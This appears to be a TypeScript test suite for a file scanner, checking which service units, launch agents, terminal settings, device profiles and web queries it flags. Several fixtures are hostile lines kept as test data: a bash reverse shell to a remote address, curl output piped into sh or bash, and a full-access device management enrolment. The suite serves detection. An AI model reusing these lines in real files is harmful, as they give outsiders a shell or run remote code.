import assert from 'node:assert/strict'
import { suite, test } from 'node:test'
import { useInspector } from '#inspect/testing/inspector.ts'

const { inspect } = useInspector()
const found = (name: string, source: string): string | undefined =>
  inspect(Buffer.from(source), { name }).findings.find(({ severity }) => severity !== 'notice')?.id
const service = (line: string): string => `[Unit]\nDescription=Exporter\n[Service]\nExecStart=${line}\nRestart=always\n`
const list = (rest: string): string => `<?xml version="1.0"?>\n<plist version="1.0"><dict>${rest}</dict></plist>`
const agent = (...words: string[]): string =>
  list(
    `<key>ProgramArguments</key><array>${words.map((each) => `<string>${each}</string>`).join('')}</array><key>RunAtLoad</key><true/>`,
  )
const query = (address: string): string => `WEB\n1\n${address}\n\nSelection=1\n`

suite('a file that a system starts or opens', () => {
  const files: readonly (readonly [way: string, name: string, source: string, expected: string | undefined])[] = [
    [
      'a service with a shell for another computer',
      'a.service',
      service('/bin/bash -c "bash -i >& /dev/tcp/203.0.113.6/44 0>&1"'),
      'Docvet.Shortcut.Command',
    ],
    ['a service with a program', 'a.service', service('/usr/bin/node /srv/app/server.js'), undefined],
    [
      'an agent with code of a server',
      'a.plist',
      agent('/bin/bash', '-c', 'curl -s http://203.0.113.8/t | sh'),
      'Docvet.Shortcut.Command',
    ],
    [
      'an agent that says that it runs',
      'a.plist',
      agent('/usr/bin/curl', '-fsS', 'https://status.company.example/ping'),
      undefined,
    ],
    [
      'settings of a terminal',
      'a.terminal',
      list('<key>CommandString</key><string>curl -s https://a.example/a | bash</string>'),
      'Docvet.Shortcut.Command',
    ],
    [
      'a workflow',
      'a.wflow',
      list('<key>COMMAND_STRING</key><string>for f in "$@"; do sips -Z 9 "$f"; done</string>'),
      undefined,
    ],
    [
      'a profile that enrols a telephone',
      'a.mobileconfig',
      list(
        '<key>PayloadContent</key><array><dict><key>PayloadType</key><string>com.apple.mdm</string><key>ServerURL</key><string>https://mdm.pension.example/server</string><key>AccessRights</key><integer>8191</integer></dict></array>',
      ),
      'Docvet.Shortcut.Management',
    ],
    [
      'a profile of a private network',
      'a.mobileconfig',
      list(
        '<key>PayloadContent</key><array><dict><key>PayloadType</key><string>com.apple.vpn.managed</string><key>RemoteAddress</key><string>vpn.school.example</string></dict></array>',
      ),
      undefined,
    ],
    ['a query for data', 'a.iqy', query('https://prices.example/q4.dat'), 'Docvet.Shortcut.Remote'],
    ['a query for a table of a page', 'a.iqy', query('https://www.bank.example/rates/index.en.html'), undefined],
  ]
  for (const [way, name, source, expected] of files) test(way, () => assert.equal(found(name, source), expected))
})
